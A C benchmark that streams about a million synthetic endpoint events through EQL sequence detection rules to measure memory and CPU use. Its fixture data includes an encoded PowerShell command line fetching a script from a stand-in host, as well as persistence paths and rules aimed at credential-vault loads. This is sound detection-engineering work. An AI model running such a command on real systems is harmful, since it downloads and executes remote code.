/* bench_stream_rules.c - a long stream through many sequence rules within a budget of memory. Rules are those
 * of $SHARED/corpus/rules (../shared) where they are at hand, else a few of our own; events of five
 * categories are made up, about a million processes. For each tenth of the stream: state, memory of the
 * process, CPU time. Exit status 1: the state was over its budget. Arguments: events (1000000), budget in MB
 * (64), keys (1000000), a rule file or folder. */
#include "eqlmini.h"

#include "measure.h"
#include "rules.h"

#include <stdio.h>
#include <string.h>
#include <unistd.h>

enum { MAX_ARGS = 4, N_STEPS = 10 };

typedef struct event {
    eqlm_value values[64]; /* by place */
    eqlm_value args[MAX_ARGS];
    char entity[40], parent[40];
} event;

static const char *const programs[] = {
    "powershell.exe", "cmd.exe",      "rundll32.exe", "svchost.exe", "explorer.exe", "chrome.exe",
    "winword.exe",    "python3",      "bash",         "sh",          "curl",         "sshd",
    "systemd",        "osascript",    "regsvr32.exe", "mshta.exe",   "wscript.exe",  "schtasks.exe",
    "net.exe",        "whoami.exe",   "tar",          "git",         "node",         "java",
    "msiexec.exe",    "certutil.exe", "w3wp.exe",     "outlook.exe", "teams.exe",    "code",
    "make",           "cc1",          "ld",           "sed",         "grep",
};
static const char *const files[] = {
    "C:\\Users\\ann\\AppData\\Local\\Temp\\a1.exe",
    "C:\\Users\\ann\\Downloads\\invoice.docm",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "C:\\ProgramData\\x.dll",
    "/tmp/.x",
    "/etc/cron.d/job",
    "/home/ann/src/main.c",
    "/home/ann/.bashrc",
    "/var/log/syslog",
    "C:\\Windows\\Tasks\\u.job",
    "C:\\Users\\ann\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\s.lnk",
    "/usr/lib/libz.so",
};
static const char *const extensions[] = { "exe", "docm",   "hosts", "dll", "x",   "job",
                                          "c",   "bashrc", "log",   "job", "lnk", "so" };
static const char *const registry[] = {
    "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x",
    "HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command",
    "HKLM\\System\\CurrentControlSet\\Services\\new\\ImagePath",
    "HKCU\\Environment\\windir",
};
static const char *const libraries[] = { "ntdll.dll", "vaultcli.dll", "taskschd.dll", "scrobj.dll", "x.dll" };
static const char *const addresses[] = { "10.0.0.5", "192.168.1.9", "8.8.8.8", "203.0.113.7", "127.0.0.1" };
static const char *const systems[] = { "windows", "linux", "macos" };
static const char *const users[] = { "S-1-5-18", "S-1-5-21-1-1001", "0", "1000", "501" };
static const char *const hosts[] = { "h0", "h1", "h2", "h3", "h4", "h5", "h6", "h7" };

static const char *const own_rules[] = {
    "sequence by process.entity_id with maxspan=1m [process where event.type == \"start\" and process.name : "
    "(\"powershell.exe\", \"cmd.exe\", \"rundll32.exe\")] [network where destination.port == 443]",
    "sequence by host.id, process.entity_id with maxspan=5m [file where file.extension : (\"exe\", \"dll\")] "
    "[process where event.type == \"start\"] until [process where event.type == \"end\"]",
    "sequence by host.id with maxspan=30s [registry where registry.path : \"*\\\\Run\\\\*\"] "
    "[library where dll.name : \"vaultcli.dll\"] by process.name",
    "sequence with maxspan=10s [process where process.name : \"curl\"] by process.parent.entity_id "
    "[network where true] by process.entity_id",
};

/* Where the generator puts a value, if the rules name the field. */
enum place {
    NONE,
    CATEGORY,
    TYPE,
    ACTION,
    HOST,
    SYSTEM,
    ENTITY,
    PARENT,
    PID,
    PPID,
    NAME,
    PARENT_NAME,
    EXECUTABLE,
    PARENT_EXECUTABLE,
    COMMAND_LINE,
    ARGS,
    ARGS_COUNT,
    USER,
    FILE_PATH,
    FILE_NAME,
    FILE_EXTENSION,
    REGISTRY_PATH,
    REGISTRY_DATA,
    DLL_NAME,
    DLL_PATH,
    DESTINATION,
    PORT,
    PROTOCOL,
    TRUSTED,
    N_PLACES
};

static const struct field {
    enum place place;
    const char *name;
} fields[] = {
    { CATEGORY, "event.category" },
    { TYPE, "event.type" },
    { ACTION, "event.action" },
    { HOST, "host.id" },
    { HOST, "agent.id" },
    { SYSTEM, "host.os.type" },
    { SYSTEM, "host.os.family" },
    { ENTITY, "process.entity_id" },
    { PARENT, "process.parent.entity_id" },
    { PID, "process.pid" },
    { PPID, "process.parent.pid" },
    { NAME, "process.name" },
    { NAME, "process.pe.original_file_name" },
    { PARENT_NAME, "process.parent.name" },
    { EXECUTABLE, "process.executable" },
    { PARENT_EXECUTABLE, "process.parent.executable" },
    { COMMAND_LINE, "process.command_line" },
    { ARGS, "process.args" },
    { ARGS_COUNT, "process.args_count" },
    { USER, "user.id" },
    { USER, "user.name" },
    { FILE_PATH, "file.path" },
    { FILE_NAME, "file.name" },
    { FILE_EXTENSION, "file.extension" },
    { REGISTRY_PATH, "registry.path" },
    { REGISTRY_DATA, "registry.data.strings" },
    { DLL_NAME, "dll.name" },
    { DLL_PATH, "dll.path" },
    { DESTINATION, "destination.ip" },
    { PORT, "destination.port" },
    { PROTOCOL, "network.protocol" },
    { TRUSTED, "process.code_signature.trusted" },
    { TRUSTED, "dll.code_signature.trusted" },
};

#define MAX_FIELDS 4096
static uint8_t place_of[MAX_FIELDS]; /* by the schema's number of a field */
static uint64_t random_state = 88172645463325252u;
static uint64_t n_matches;

static void die(const char *what)
{
    fprintf(stderr, "bench_stream_rules: %s\n", what);
    exit(2);
}

/* ---- Events -------------------------------------------------------------------------------------------- */

static uint32_t below(uint32_t n)
{
    random_state ^= random_state << 13;
    random_state ^= random_state >> 7;
    random_state ^= random_state << 17;
    return (uint32_t)(random_state >> 32) % n;
}

static bool get(void *ctx, const void *e, uint32_t field, eqlm_value *out)
{
    (void)ctx;
    *out = ((const event *)e)->values[field < MAX_FIELDS ? place_of[field] : 0];
    return out->type != EQLM_NULL;
}

static void put_text(event *e, enum place place, const char *text)
{
    e->values[place] = (eqlm_value) { .type = EQLM_STRING, .len = (uint32_t)strlen(text), .as.str = text };
}

static void put_number(event *e, enum place place, int64_t n)
{
    e->values[place] = (eqlm_value) { .type = EQLM_I64, .as.i64 = n };
}

#define ANY_OF(list) list[below(sizeof list / sizeof list[0])]

static void name_process(char *text, uint32_t n)
{
    memcpy(text, "entity-0000000000-0123456789abcdef", 35);
    for (unsigned i = 0; i < 10; i++, n /= 10)
        text[16 - i] = (char)('0' + n % 10);
}

/* What a process is called does not change; some are busier than others. */
static void make_process(event *e, uint32_t process)
{
    uint32_t parent = process / 7;
    const char *name = programs[process % (sizeof programs / sizeof programs[0])];
    const char *parent_name = programs[parent % (sizeof programs / sizeof programs[0])];
    name_process(e->entity, process);
    name_process(e->parent, parent);
    put_text(e, ENTITY, e->entity);
    put_text(e, PARENT, e->parent);
    put_number(e, PID, process);
    put_number(e, PPID, parent);
    put_text(e, NAME, name);
    put_text(e, PARENT_NAME, parent_name);
    put_text(e, EXECUTABLE, name);
    put_text(e, PARENT_EXECUTABLE, parent_name);
    put_text(e, HOST, hosts[process % 8]);
    put_text(e, SYSTEM, systems[process % 3]);
    put_text(e, USER, users[process % 5]);
    e->values[TRUSTED] = (eqlm_value) { .type = EQLM_BOOL, .as.boolean = process % 4 != 0 };
}

static void make_start(event *e)
{
    bool start = below(3) > 0;
    put_text(e, CATEGORY, "process");
    put_text(e, TYPE, start ? "start" : "end");
    put_text(e, ACTION, start ? "exec" : "end");
    put_text(e, COMMAND_LINE, "powershell.exe -enc SQBFAFgA -nop http://203.0.113.7/a.ps1");
    for (uint32_t i = 0; i < MAX_ARGS; i++) {
        const char *text = ANY_OF(programs);
        e->args[i] = (eqlm_value) { .type = EQLM_STRING, .len = (uint32_t)strlen(text), .as.str = text };
    }
    e->values[ARGS] = (eqlm_value) { .type = EQLM_ARRAY, .len = MAX_ARGS, .as.items = e->args };
    put_number(e, ARGS_COUNT, MAX_ARGS);
}

static void make_event(event *e, uint32_t process)
{
    memset(e->values, 0, sizeof e->values);
    make_process(e, process);
    uint32_t kind = below(10), k;
    if (kind < 4) {
        make_start(e);
    } else if (kind < 7) {
        k = below(sizeof files / sizeof files[0]);
        put_text(e, CATEGORY, "file");
        put_text(e, TYPE, below(2) ? "creation" : "change");
        put_text(e, ACTION, below(2) ? "creation" : "rename");
        put_text(e, FILE_PATH, files[k]);
        put_text(e, FILE_NAME, files[k]);
        put_text(e, FILE_EXTENSION, extensions[k]);
    } else if (kind < 8) {
        put_text(e, CATEGORY, "network");
        put_text(e, TYPE, "start");
        put_text(e, ACTION, "connection_attempted");
        put_text(e, DESTINATION, ANY_OF(addresses));
        put_number(e, PORT, below(2) ? 443 : below(9000));
        put_text(e, PROTOCOL, below(2) ? "dns" : "http");
    } else if (kind < 9) {
        put_text(e, CATEGORY, "registry");
        put_text(e, TYPE, "change");
        put_text(e, ACTION, "modification");
        put_text(e, REGISTRY_PATH, ANY_OF(registry));
        put_text(e, REGISTRY_DATA, ANY_OF(files));
    } else {
        put_text(e, CATEGORY, "library");
        put_text(e, TYPE, "start");
        put_text(e, ACTION, "load");
        put_text(e, DLL_NAME, ANY_OF(libraries));
        put_text(e, DLL_PATH, ANY_OF(files));
    }
}

/* Most events are of a few processes that are busy for a while, the others of any. */
static uint32_t choose_process(uint64_t i, uint32_t n_keys)
{
    return below(4) == 0 ? below(n_keys) : (uint32_t)((i / 64 * 7919 + below(16)) % n_keys);
}

/* ---- Rules --------------------------------------------------------------------------------------------- */

static void add_rule(eqlm_schema *schema, eqlm_stream *s, const char *query, size_t len, eqlm_dialect dialect,
                     uint32_t *n)
{
    eqlm_program *p;
    eqlm_options o = { .size = sizeof o, .dialect = dialect };
    if (eqlm_compile(NULL, schema, (eqlm_str) { query, len }, &o, NULL, &p) != EQLM_OK)
        return;
    if (eqlm_program_get_kind(p) == EQLM_SEQUENCE)
        *n += eqlm_stream_add(s, p, NULL) == EQLM_OK;
    eqlm_program_free(p);
}

static void ignore(void *ctx, const char *path, eqlc_place place, bool warning, const char *message)
{
    (void)ctx, (void)path, (void)place, (void)warning, (void)message;
}

static uint32_t add_rules(eqlm_schema *schema, eqlm_stream *s, const char *argument)
{
    const char *shared = getenv("SHARED");
    static char paths[2][1024];
    char *list[2] = { paths[0], paths[1] };
    size_t n_paths = argument ? 1 : 2;
    eqlc_rules rules = { 0 };
    uint32_t n = 0;
    snprintf(paths[0], sizeof paths[0], "%s/corpus/rules/detection-rules.jsonl",
             shared ? shared : "../shared");
    snprintf(paths[1], sizeof paths[1], "%s/corpus/rules/protections-artifacts.jsonl",
             shared ? shared : "../shared");
    if (argument)
        snprintf(paths[0], sizeof paths[0], "%s", argument);
    for (size_t k = 0; k < n_paths; k++) {
        size_t before = rules.n;
        if (access(paths[k], R_OK) == 0)
            eqlc_rules_read(&rules, &list[k], 1, ignore, NULL);
        for (size_t i = before; i < rules.n; i++)
            add_rule(schema, s, rules.items[i].query, rules.items[i].query_len,
                     strstr(paths[k], "protections") ? EQLM_DIALECT_ENDPOINT : rules.items[i].dialect, &n);
    }
    eqlc_rules_clear(&rules);
    for (size_t i = 0; n < 1 && i < sizeof own_rules / sizeof own_rules[0]; i++)
        add_rule(schema, s, own_rules[i], strlen(own_rules[i]), EQLM_DIALECT_ES, &n);
    return n;
}

static void find_places(eqlm_schema *schema)
{
    for (size_t i = 0; i < sizeof fields / sizeof fields[0]; i++) {
        uint32_t field;
        eqlm_str name = { fields[i].name, strlen(fields[i].name) };
        if (eqlm_schema_find(schema, name, &field) && field < MAX_FIELDS)
            place_of[field] = (uint8_t)fields[i].place;
    }
}

/* ---- Measuring ----------------------------------------------------------------------------------------- */

static double resident_mb(void)
{
    unsigned long size = 0, resident = 0;
    FILE *f = fopen("/proc/self/statm", "r");
    if (f && fscanf(f, "%lu %lu", &size, &resident) != 2)
        resident = 0;
    if (f)
        fclose(f);
    return (double)resident * (double)sysconf(_SC_PAGESIZE) / 1e6;
}

static bool on_match(void *ctx, const eqlm_stream_match *m)
{
    (void)ctx, (void)m;
    n_matches++;
    return true;
}

static uint64_t number(int argc, char **argv, int i, uint64_t otherwise)
{
    return argc > i ? strtoull(argv[i], NULL, 10) : otherwise;
}

int main(int argc, char **argv)
{
    uint64_t n = number(argc, argv, 1, 1000000), budget = number(argc, argv, 2, 64) * 1000000;
    uint32_t n_keys = (uint32_t)number(argc, argv, 3, 1000000);
    eqlm_schema *schema = NULL;
    eqlm_stream *s = NULL;
    eqlm_stream_counts c;
    eqlm_stream_options o = { .size = sizeof o, .max_state = budget, .on_match = on_match, .hash_seed = 1 };
    static event e;
    double last = 0, step_begin, half = 0, begin;
    bool over = false;
    if (eqlm_schema_new(NULL, &schema) != EQLM_OK || eqlm_schema_set_getter(schema, get, NULL) != EQLM_OK ||
        eqlm_stream_new(NULL, &o, &s) != EQLM_OK)
        die("out of memory");
    uint32_t n_rules = add_rules(schema, s, argc > 4 ? argv[4] : NULL);
    find_places(schema);
    printf("%u sequence rules, %llu events, %u keys, budget %.0f MB\n", n_rules, (unsigned long long)n,
           n_keys, (double)budget / 1e6);
    begin = step_begin = cpu_seconds();
    for (uint64_t i = 0; i < n; i++) {
        eqlm_event_info info = { .id = i, .has_time = true, .time = (int64_t)i * 100000 };
        make_event(&e, choose_process(i, n_keys));
        if (eqlm_stream_feed(s, &e, &info) != EQLM_OK)
            die("the stream fails");
        if (i % 1024 == 0 || (i + 1) * N_STEPS % n < N_STEPS) {
            eqlm_stream_get_counts(s, &c);
            over = over || c.state_bytes > budget;
        }
        if ((i + 1) * N_STEPS % n >= N_STEPS)
            continue;
        last = cpu_seconds();
        printf("%9llu events %7.0f ns/event, %8llu partials, %7llu keys, state %6.1f MB, process %6.1f MB, "
               "%9llu matches, %9llu evicted\n",
               (unsigned long long)i + 1, (last - step_begin) * 1e9 * N_STEPS / (double)n,
               (unsigned long long)c.partials, (unsigned long long)c.keys, (double)c.state_bytes / 1e6,
               resident_mb(), (unsigned long long)n_matches, (unsigned long long)c.evicted);
        fflush(stdout);
        step_begin = last;
        if (i + 1 <= n / 2)
            half = last;
    }
    printf("second half: %.2f times the CPU time of the first, %.1f s in all; peak of state %.1f MB: %s\n",
           (last - half) / (half - begin), last - begin, (double)c.peak_bytes / 1e6,
           over ? "OVER BUDGET" : "within budget");
    eqlm_stream_free(s);
    eqlm_schema_free(schema);
    return over;
}
